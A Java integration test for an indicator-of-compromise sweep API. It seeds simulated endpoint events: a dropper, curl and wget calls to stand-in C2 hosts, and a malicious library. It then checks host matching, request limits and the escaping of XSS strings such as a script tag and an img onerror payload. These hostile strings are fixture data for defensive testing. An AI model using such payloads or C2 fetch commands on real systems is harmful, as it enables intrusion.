package org.fleetrec.web;

import co.elastic.clients.elasticsearch.ElasticsearchClient;
import co.elastic.clients.elasticsearch.core.BulkRequest;
import com.fasterxml.jackson.databind.JsonNode;
import org.fleetrec.model.Dataset;
import org.fleetrec.model.EventCodec;
import org.fleetrec.model.EventDocument;
import org.fleetrec.model.IndexNames;
import org.fleetrec.stack.testing.ElasticsearchExtension;
import org.fleetrec.stack.testing.TestElasticsearch;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Alpha ran a dropper that talked to a C2; bravo was reached from a bad block and loaded a bad library; charlie is clean. */
@ExtendWith(ElasticsearchExtension.class)
class IocApiIT {
    private static final String TOKEN = "ioc-token-" + System.nanoTime();
    private static final String SCRIPT = "<script>alert(1)</script>";
    private static final String IMG = "\"><img src=x onerror=alert(1)>";
    private static final String DROPPER_SHA256 = "ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c";
    private static final String PAYLOAD_MD5 = "44d88612fea8a8f36de82e1278abb02f";
    private static final String LIBRARY_SHA1 = "3395856ce81f2b7382dee72602f798b642f14140";
    private static final Instant NOW = Instant.now().truncatedTo(ChronoUnit.MILLIS);
    private static final HttpClient http = HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build();
    private static ElasticsearchClient client;
    private static WebTestHarness harness;
    private static WebApp web;
    private static URI base;
    private static long sequence;
    private static String adminPassword;

    @BeforeAll
    static void start(TestElasticsearch es) throws Exception {
        harness = new WebTestHarness(es);
        client = harness.client;
        web = harness.web;
        web.credentials().ensureApiToken(TOKEN, "test", Principal.VIEWER);
        adminPassword = harness.adminPassword;
        base = harness.base;

        List<EventDocument> events = new ArrayList<>();
        events.add(event("host-a", "alpha", "process", ago(40), "a-drop", "dropper.exe", "C:\\Users\\x\\dropper.exe " + SCRIPT)
                .put("process.hash.sha256", DROPPER_SHA256));
        // Hashes printed in upper case by the source must match a lower-case indicator.
        events.add(event("host-a", "alpha", "file", ago(39), "a-drop", "dropper.exe", "C:\\Users\\x\\dropper.exe " + SCRIPT)
                .put("file.path", "C:\\Users\\x\\payload.dll").put("file.name", "payload.dll")
                .put("file.hash.md5", PAYLOAD_MD5.toUpperCase(java.util.Locale.ROOT)));
        events.add(event("host-a", "alpha", "dns", ago(38), "a-curl", "curl", "curl https://c2.example.net/" + IMG)
                .put("dns.question.name", "c2.example.net").putAll("dns.resolved_ip", List.of("203.0.113.9")));
        events.add(event("host-a", "alpha", "network", ago(37), "a-curl", "curl", "curl https://c2.example.net/" + IMG)
                .put("network.direction", "egress").put("source.ip", "10.1.0.10").put("source.port", 51000)
                .put("destination.ip", "203.0.113.7").put("destination.port", 443));
        events.add(event("host-a", "alpha", "network", ago(36), "a-curl", "curl", "curl https://c2.example.net/" + IMG)
                .put("network.direction", "egress").put("source.ip", "10.1.0.10").put("source.port", 51001)
                .put("destination.ip", "203.0.113.7").put("destination.port", 443));
        events.add(event("host-b", "bravo", "network", ago(30), "b-sshd", "sshd", "/usr/sbin/sshd -D")
                .put("network.direction", "ingress").put("source.ip", "198.51.100.23").put("source.port", 40000)
                .put("destination.ip", "10.1.0.20").put("destination.port", 22));
        events.add(event("host-b", "bravo", "network", ago(29), "b-wget", "wget", "wget http://bad.example/x")
                .put("network.direction", "egress").put("destination.ip", "192.0.2.80").put("destination.port", 80)
                .put("url.full", "http://bad.example/x").put("url.domain", "bad.example"));
        events.add(event("host-b", "bravo", "library", ago(28), "b-app", "app", "/opt/app/bin/app --serve")
                .put("dll.path", "/opt/app/lib/libevil.so").put("dll.name", "libevil.so").put("dll.hash.sha1", LIBRARY_SHA1));
        events.add(event("host-c", "charlie", "network", ago(20), "c-curl", "curl", "curl https://example.org/")
                .put("network.direction", "egress").put("destination.ip", "93.184.216.34").put("destination.port", 443));
        events.add(event("host-c", "charlie", "process", ago(20), "c-ls", "ls", "ls -l")
                .put("process.hash.sha256", "0".repeat(64)));
        bulk(events);
        client.indices().refresh(r -> r.index("fleet-*"));
    }

    @AfterAll
    static void stop() {
        if (harness != null) harness.close();
    }

    @Test
    void aStixBundleIsSweptAndMatchesComeBackByHost() throws Exception {
        String bundle = """
                {"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": [
                  {"type": "indicator", "spec_version": "2.1", "id": "indicator--c2", "name": "C2 %s", "pattern_type": "stix",
                   "pattern": "[ipv4-addr:value = '203.0.113.7' OR domain-name:value = 'c2.example.net']"},
                  {"type": "indicator", "id": "indicator--dropper", "name": "dropper",
                   "pattern": "[file:hashes.'SHA-256' = '%s']"},
                  {"type": "indicator", "id": "indicator--payload", "pattern": "[file:hashes.MD5 = '%s']"},
                  {"type": "indicator", "id": "indicator--block", "pattern": "[ipv4-addr:value = '198.51.100.0/24']"},
                  {"type": "indicator", "id": "indicator--url", "pattern": "[url:value = 'http://bad.example/x']"},
                  {"type": "indicator", "id": "indicator--mail", "pattern": "[email-message:subject MATCHES '^(a+)+$']"},
                  {"type": "file", "id": "file--lib", "hashes": {"SHA-1": "%s"}},
                  {"type": "domain-name", "id": "domain-name--unused", "value": "unused.example"},
                  {"type": "relationship", "id": "relationship--1", "relationship_type": "indicates"}
                ]}""".formatted(SCRIPT, DROPPER_SHA256.toUpperCase(java.util.Locale.ROOT), PAYLOAD_MD5, LIBRARY_SHA1);
        JsonNode body = sweep(bundle, "application/json", "");
        assertEquals(8, body.path("indicators").asInt());
        assertEquals(1, body.path("unsupported_count").asInt());
        assertEquals("indicator--mail: email-message:subject MATCHES '^(a+)+$' is not swept", body.path("unsupported").get(0).asText());

        JsonNode hosts = body.path("hosts");
        assertEquals(List.of("alpha", "bravo"), names(hosts), "charlie matched nothing");
        JsonNode alpha = hosts.get(0);
        assertEquals("host-a", alpha.path("host").path("id").asText());
        assertEquals(Set.of("ip 203.0.113.7 destination.ip", "domain c2.example.net dns.question.name",
                "sha256 " + DROPPER_SHA256 + " process.hash.sha256", "md5 " + PAYLOAD_MD5 + " file.hash.md5"), matches(alpha));

        JsonNode c2 = match(alpha, "destination.ip");
        assertEquals("indicator--c2", c2.path("indicator").path("stix_id").asText());
        assertEquals("C2 " + SCRIPT, c2.path("indicator").path("name").asText());
        assertEquals(2, c2.path("count").asLong());
        assertEquals(ago(37), Instant.parse(c2.path("first_seen").asText()));
        assertEquals(ago(36), Instant.parse(c2.path("last_seen").asText()));
        assertEquals(1, c2.path("processes").size());
        assertEquals("a-curl", c2.path("processes").get(0).path("entity_id").asText());
        assertEquals("curl https://c2.example.net/" + IMG, c2.path("processes").get(0).path("command_line").asText());

        JsonNode dropper = match(alpha, "process.hash.sha256");
        assertEquals("indicator--dropper", dropper.path("indicator").path("stix_id").asText());
        assertEquals("dropper.exe", dropper.path("processes").get(0).path("name").asText());
        assertEquals("C:\\Users\\x\\dropper.exe " + SCRIPT, dropper.path("processes").get(0).path("command_line").asText());

        JsonNode bravo = hosts.get(1);
        assertEquals(Set.of("ip 198.51.100.0/24 source.ip", "url http://bad.example/x url.full",
                "sha1 " + LIBRARY_SHA1 + " dll.hash.sha1"), matches(bravo));
        assertEquals("file--lib", match(bravo, "dll.hash.sha1").path("indicator").path("stix_id").asText());
        assertEquals("b-sshd", match(bravo, "source.ip").path("processes").get(0).path("entity_id").asText());
    }

    @Test
    void aPlainListIsSweptInBatchesAndWithinTheWindow() throws Exception {
        StringBuilder list = new StringBuilder("# from a report\n");
        // Enough addresses for two batches: the ones that match come last.
        for (int i = 0; i < 1500; i++) list.append("10.200.").append(i / 256).append('.').append(i % 256).append('\n');
        list.append("c2[.]example[.]net\npayload.dll\ndropper.exe\n").append(LIBRARY_SHA1.toUpperCase(java.util.Locale.ROOT))
                .append("\n198.51.100.23\nthis is not an indicator\n");
        JsonNode body = sweep(list.toString(), "text/plain; charset=utf-8", "");
        assertEquals(1505, body.path("indicators").asInt());
        assertEquals(1, body.path("unsupported_count").asInt());
        JsonNode hosts = body.path("hosts");
        assertEquals(List.of("alpha", "bravo"), names(hosts));
        assertEquals(Set.of("domain c2.example.net dns.question.name", "file-name payload.dll file.name",
                "file-name dropper.exe process.name"), matches(hosts.get(0)));
        assertEquals(Set.of("sha1 " + LIBRARY_SHA1 + " dll.hash.sha1", "ip 198.51.100.23 source.ip"), matches(hosts.get(1)));
        assertTrue(match(hosts.get(0), "file.name").path("indicator").path("stix_id").isNull());

        assertEquals(List.of("charlie"), names(sweep("93.184.216.34\n", "text/plain", "?from=now-25m").path("hosts")));
        assertEquals(0, sweep("203.0.113.7\n", "text/plain", "?from=now-25m").path("hosts").size());
        assertEquals(1, sweep("203.0.113.7\n", "text/plain", "?from=now-2h&to=now-30m").path("hosts").size());
    }

    @Test
    void oversizedMalformedAndUnauthorisedRequestsAreRefused() throws Exception {
        assertEquals(413, post("x".repeat(IocApi.MAX_BODY_BYTES + 1), "text/plain", "", TOKEN).statusCode());
        StringBuilder many = new StringBuilder();
        for (int i = 0; i <= IndicatorSet.MAX_INDICATORS; i++) many.append("10.").append(i >> 16).append('.').append((i >> 8) & 255).append('.').append(i & 255).append('\n');
        HttpResponse<String> tooMany = post(many.toString(), "text/plain", "", TOKEN);
        assertEquals(413, tooMany.statusCode(), tooMany.body());
        assertTrue(EventCodec.mapper().readTree(tooMany.body()).path("error").path("reason").asText().contains("50000"));

        assertEquals(415, post("<x/>", "application/xml", "", TOKEN).statusCode());
        assertEquals(415, post("10.0.0.1", null, "", TOKEN).statusCode());
        assertEquals(400, post("{\"type\": \"bundle\", \"objects\": [", "application/json", "", TOKEN).statusCode());
        assertEquals(400, post("{\"type\": \"campaign\"}", "application/json", "", TOKEN).statusCode());
        assertEquals(400, post("", "application/json", "", TOKEN).statusCode());
        assertEquals(400, post("[".repeat(100_000), "application/json", "", TOKEN).statusCode());
        assertEquals(400, post("10.0.0.1", "text/plain", "?from=garbage", TOKEN).statusCode());
        assertEquals(401, post("10.0.0.1", "text/plain", "", null).statusCode());
        HttpResponse<String> page = http.send(HttpRequest.newBuilder(base.resolve("/ioc")).build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(302, page.statusCode());
        assertEquals("/login", page.headers().firstValue("Location").orElse(""));

        JsonNode nothing = sweep("# only a comment\n\n", "text/plain", "");
        assertEquals(0, nothing.path("indicators").asInt());
        assertEquals(0, nothing.path("hosts").size());
    }

    @Test
    void thePagePostsTheListAndShowsHostileTextAsText() throws Exception {
        try (Browser browser = Browser.signedIn(base, "admin", adminPassword)) {
            browser.open("/ioc");
            browser.one("#ioc-input").sendKeys("203.0.113.7\ndropper.exe\nnot an indicator\n");
            browser.one("#ioc-submit").click();
            browser.await("#ioc-results section", 1);
            String results = browser.one("#ioc-results").getText();
            assertTrue(results.contains("curl https://c2.example.net/" + IMG), results);
            assertTrue(results.contains("C:\\Users\\x\\dropper.exe " + SCRIPT), results);
            assertEquals("curl", browser.one("#ioc-results a[href='/process?id=a-curl']").getText());
            assertEquals("dropper.exe", browser.one("#ioc-results a[href='/process?id=a-drop']").getText());
            assertTrue(browser.one("#ioc-summary").getText().startsWith("2 indicators swept"), browser.one("#ioc-summary").getText());
            assertEquals(1, browser.all("#ioc-unsupported li").size());
            assertTrue(browser.all("main img, main script").isEmpty(), "event text became markup");
        }
    }

    // data

    private static Instant ago(int minutes) {
        return NOW.minus(Duration.ofMinutes(minutes));
    }

    private static EventDocument event(String hostId, String hostName, String dataset, Instant time, String entityId,
                                       String name, String commandLine) {
        return EventDocument.create().put("@timestamp", time.toString()).put("event.dataset", dataset)
                .put("event.action", "test").put("event.kind", "event").put("event.sequence", ++sequence)
                .put("host.id", hostId).put("host.name", hostName).put("agent.id", "agent-" + hostId).put("agent.version", "0.1.0")
                .put("process.entity_id", entityId).put("process.name", name).put("process.command_line", commandLine);
    }

    private static void bulk(List<EventDocument> events) throws Exception {
        BulkRequest.Builder bulk = new BulkRequest.Builder();
        for (EventDocument event : events) {
            Dataset dataset = Dataset.fromId(event.text("event.dataset")).orElseThrow();
            String index = IndexNames.events(dataset, Instant.parse(event.text("@timestamp")));
            String id = IndexNames.documentId(event.text("agent.id"), event.get("event.sequence").asLong());
            bulk.operations(o -> o.create(c -> c.index(index).id(id).document(event.json())));
        }
        var response = client.bulk(bulk.build());
        assertFalse(response.errors(), () -> response.items().stream().filter(i -> i.error() != null)
                .map(i -> i.error().reason()).toList().toString());
    }

    // requests and reading

    private static JsonNode sweep(String body, String contentType, String query) throws Exception {
        HttpResponse<String> response = post(body, contentType, query, TOKEN);
        assertEquals(200, response.statusCode(), response.body());
        assertTrue(response.headers().firstValue("Content-Type").orElse("").startsWith("application/json"));
        return EventCodec.mapper().readTree(response.body());
    }

    private static HttpResponse<String> post(String body, String contentType, String query, String token) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(base.resolve("/api/v1/ioc/sweep" + query))
                .POST(HttpRequest.BodyPublishers.ofString(body));
        if (contentType != null) request.header("Content-Type", contentType);
        if (token != null) request.header("Authorization", "Bearer " + token);
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static List<String> names(JsonNode hosts) {
        List<String> names = new ArrayList<>();
        hosts.forEach(h -> names.add(h.path("host").path("name").asText()));
        return names;
    }

    /** "type value field" of each match of a host. */
    private static Set<String> matches(JsonNode host) {
        Set<String> matches = new TreeSet<>();
        host.path("matches").forEach(m -> matches.add(m.path("indicator").path("type").asText() + " "
                + m.path("indicator").path("value").asText() + " " + m.path("field").asText()));
        return matches;
    }

    private static JsonNode match(JsonNode host, String field) {
        for (JsonNode match : host.path("matches")) {
            if (match.path("field").asText().equals(field)) return match;
        }
        throw new AssertionError("no match on " + field + " in " + host);
    }
}
